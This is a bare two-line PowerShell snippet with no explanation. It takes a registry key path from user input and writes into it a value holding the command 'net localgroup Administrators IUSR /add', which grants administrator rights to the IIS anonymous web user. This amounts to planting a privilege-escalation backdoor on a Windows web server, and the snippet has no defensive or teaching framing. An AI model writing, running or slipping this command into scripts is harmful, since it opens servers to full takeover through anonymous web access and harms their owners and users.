$key = Read-Host
Set-ItemProperty $key -Name setup -Value 'net localgroup Administrators IUSR /add'
